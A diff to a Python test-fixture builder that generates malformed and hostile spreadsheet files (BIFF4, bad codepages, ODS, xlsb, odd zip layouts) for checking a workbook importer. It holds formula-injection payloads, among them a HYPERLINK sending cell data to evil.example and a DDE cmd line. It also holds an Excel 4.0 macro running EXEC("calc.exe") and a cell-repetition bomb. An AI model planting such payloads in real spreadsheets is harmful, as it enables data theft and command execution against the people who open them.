@@ -21,6 +21,8 @@ from builders import Sheet, rows_for, spec_of, write_book, write_csv
 
 from aidtools.reading.cfb import minimal_cfb
 
+XLSB_FIXTURE = Path(__file__).resolve().parent / "fixtures" / "workbooks" / "student.xlsb"
+
 FORMULA_PAYLOADS = {
     "院系": '=HYPERLINK("http://evil.example/?d="&E2,"点击查看")',
     "专业": "+cmd|' /C calc'!A0",
@@ -230,10 +232,152 @@ def far_cell_xls(folder: Path) -> Case:
     return Case("远处单元格.xls", "file.unreadable", "too_large", note="one record at row 65536, column IV")
 
 
+def old_excel(folder: Path) -> Case:
+    """An Excel 4.0 worksheet (BIFF4): a bare record stream, no OLE container (calamine: "Invalid OLE")."""
+    rec = lambda kind, body: struct.pack("<HH", kind, len(body)) + body  # noqa: E731
+
+    def label(r, c, text):
+        data = text.encode("gbk")
+        return rec(0x0204, struct.pack("<HHHH", r, c, 0, len(data)) + data)
+
+    cells = [label(0, c, h) for c, h in enumerate(spec_of("student").headers[:3])]
+    body = rec(0x0409, struct.pack("<HHH", 0, 0x10, 0)) + rec(0x0042, struct.pack("<H", 936)) + b"".join(cells)
+    (folder / "Excel4.xls").write_bytes(body + rec(0x000A, b""))
+    return Case("Excel4.xls", "file.unreadable", "old_excel", note="BIFF4 BOF 0x0409")
+
+
+def unknown_codepage(folder: Path) -> Case:
+    """An .xls whose CODEPAGE record says 8001 (calamine: "Codepage 1F41 not found")."""
+    path = folder / "代码页.xls"
+    write_book(path, writer="xlwt", sheets=[Sheet(spec_of("student").sheet, rows_for("student", n=2))])
+    data = bytearray(path.read_bytes())
+    at = data.find(b"\x42\x00\x02\x00")  # CODEPAGE, 2 bytes
+    assert at > 0, "xlwt wrote no CODEPAGE record"
+    struct.pack_into("<H", data, at + 4, 8001)
+    path.write_bytes(bytes(data))
+    return Case("代码页.xls", "file.unreadable", "codepage")
+
+
+def macro_sheet(folder: Path) -> Case:
+    """An Excel 4.0 macro sheet (xl/macrosheets/) beside the template sheet (calamine: "Unrecognized sheet")."""
+    def types(xml: bytes) -> bytes:
+        return xml.replace(b"</Types>", b'<Override PartName="/xl/macrosheets/sheet2.xml" '
+                           b'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>')
+
+    def book(xml: bytes) -> bytes:
+        return re.sub(rb"(<sheet [^>]*/>)", rb'\1<sheet name="Macro1" sheetId="9" r:id="rIdM"/>', xml, count=1)
+
+    def rels(xml: bytes) -> bytes:
+        return xml.replace(b"</Relationships>", b'<Relationship Id="rIdM" Type="http://schemas.microsoft.com/office/'
+                           b'2006/relationships/xlMacrosheet" Target="macrosheets/sheet2.xml"/></Relationships>')
+
+    macro = (b'<?xml version="1.0" encoding="UTF-8"?><xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
+             b'2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1">'
+             b'<f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>')
+    rewrite_zip(student_bytes(3), folder / "宏表.xlsm", edits={"[Content_Types].xml": types, "xl/workbook.xml": book,
+                                                              "xl/_rels/workbook.xml.rels": rels},
+                extra={"xl/macrosheets/sheet2.xml": macro})
+    return Case("宏表.xlsm", "file.unreadable", "macro_sheet")
+
+
+def repeated_ods_rows(folder: Path) -> Case:
+    """An ODS whose one row, holding a value in 200 repeated columns, is repeated 100,000 times:
+    a few hundred bytes of content.xml, 20 million cells in calamine."""
+    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:'
+               'opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
+               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
+               '<office:spreadsheet><table:table table:name="学生基本信息"><table:table-row '
+               'table:number-rows-repeated="100000"><table:table-cell table:number-columns-repeated="200" '
+               'office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'
+               '</office:spreadsheet></office:body></office:document-content>')
+    ods_package(folder / "重复行.ods", content)
+    return Case("重复行.ods", "file.unreadable", "too_large", note="number-rows-repeated × number-columns-repeated")
+
+
+def ods_package(path: Path, content: str) -> Path:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
+        z.writestr("META-INF/manifest.xml", '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
+                   '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
+                   'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>')
+        z.writestr("content.xml", content)
+    return path
+
+
+# ---- files that are read, recognised, and carry a finding -------------------------------------
+
 def utf16_csv(folder: Path) -> Case:
     text = "\n".join(",".join("" if v is None else str(v) for v in row) for row in rows_for("student"))
     (folder / "Unicode文本.csv").write_bytes(text.encode("utf-16"))
-    return Case("Unicode文本.csv", "file.unreadable", "encoding")
+    return Case("Unicode文本.csv", "", template="student", note="UTF-16 with a byte order mark")
+
+
+def unicode_text(folder: Path) -> Case:
+    """Excel's "Unicode 文本(*.txt)": tab-separated UTF-16 LE with a byte order mark, CRLF."""
+    text = "\r\n".join("\t".join("" if v is None else str(v) for v in row) for row in rows_for("student", n=2))
+    (folder / "Unicode文本.txt").write_bytes(b"\xff\xfe" + text.encode("utf-16-le"))
+    return Case("Unicode文本.txt", "", template="student")
+
+
+def gb18030_tsv(folder: Path) -> Case:
+    text = "\n".join("\t".join("" if v is None else str(v) for v in row) for row in rows_for("student", n=2))
+    (folder / "制表符.tsv").write_bytes(text.encode("gb18030"))
+    return Case("制表符.tsv", "", template="student")
+
+
+def ods_by_pandas(folder: Path) -> Case:
+    """An .ods written by a second writer: pandas' odf engine (odfpy)."""
+    import pandas as pd
+    rows = rows_for("student", n=3)
+    pd.DataFrame(rows[1:], columns=rows[0]).to_excel(folder / "LibreOffice.ods", engine="odf", index=False,
+                                                      sheet_name=spec_of("student").sheet)
+    return Case("LibreOffice.ods", "", template="student", note="pandas + odfpy")
+
+
+def xlsb_fixture(folder: Path) -> Case:
+    """The committed .xlsb (tests/fixtures/workbooks/README.md says how it was written)."""
+    (folder / "二进制.xlsb").write_bytes(XLSB_FIXTURE.read_bytes())
+    return Case("二进制.xlsb", "", template="student", note="pyxlsbwriter, committed")
+
+
+def backslash_names(folder: Path) -> Case:
+    """Every part name with backslashes (``xl\\workbook.xml``), as some Chinese export tools write them."""
+    data = student_bytes(3)
+    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(folder / "反斜杠.xlsx", "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            dst.writestr(info.filename.replace("/", "\\"), src.read(info))
+    return Case("反斜杠.xlsx", "", template="student", note="backslash part names: calamine reads them")
+
+
+def relocated_workbook(folder: Path) -> Case:
+    """A minimal package: no docProps, the workbook part at the root (``book.xml``), found only from
+    ``_rels/.rels`` (openpyxl reads it; calamine looks for xl/workbook.xml)."""
+    data = student_bytes(3)
+    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(folder / "最小包.xlsx", "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            name, body = info.filename, src.read(info)
+            if name.startswith("docProps/"):
+                continue
+            if name == "[Content_Types].xml":
+                body = re.sub(rb'<Override PartName="/docProps/[^>]*/>', b"", body).replace(b"/xl/workbook.xml", b"/book.xml")
+            elif name == "_rels/.rels":
+                body = re.sub(rb'<Relationship [^>]*docProps[^>]*/>', b"", body).replace(b"xl/workbook.xml", b"book.xml")
+            elif name == "xl/workbook.xml":
+                name = "book.xml"
+            elif name == "xl/_rels/workbook.xml.rels":
+                name, body = "_rels/book.xml.rels", re.sub(rb'Target="/?(?:xl/)?', b'Target="xl/', body)
+            dst.writestr(name, body)
+    return Case("最小包.xlsx", "", template="student", note="read by openpyxl")
+
+
+def no_package_rels(folder: Path) -> Case:
+    """Excel's layout without ``_rels/.rels`` (calamine: "File not found"; openpyxl reads it)."""
+    data = student_bytes(3)
+    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(folder / "缺关系.xlsx", "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            if info.filename != "_rels/.rels" and not info.filename.startswith("docProps/"):
+                dst.writestr(info.filename, src.read(info))
+    return Case("缺关系.xlsx", "", template="student", note="read by openpyxl")
 
 
 # ---- files that are read, recognised, and carry a finding -------------------------------------
@@ -307,6 +451,8 @@ def invisible_characters(folder: Path) -> Case:
 
 BUILDERS = [
     empty_file, random_bytes, truncated, html_as_xls, plain_zip, docx_like, encrypted, billion_laughs, zip_bomb,
-    far_cell, shared_string_claim, far_cell_xls, utf16_csv, claimed_dimension, big_cell, gbk_csv, bom_csv,
+    far_cell, shared_string_claim, far_cell_xls, old_excel, unknown_codepage, macro_sheet, repeated_ods_rows,
+    utf16_csv, unicode_text, gb18030_tsv, ods_by_pandas, xlsb_fixture, backslash_names, relocated_workbook,
+    no_package_rels, claimed_dimension, big_cell, gbk_csv, bom_csv,
     extra_sheets, macros, formula_payloads, emoji_name, invisible_characters,
 ]
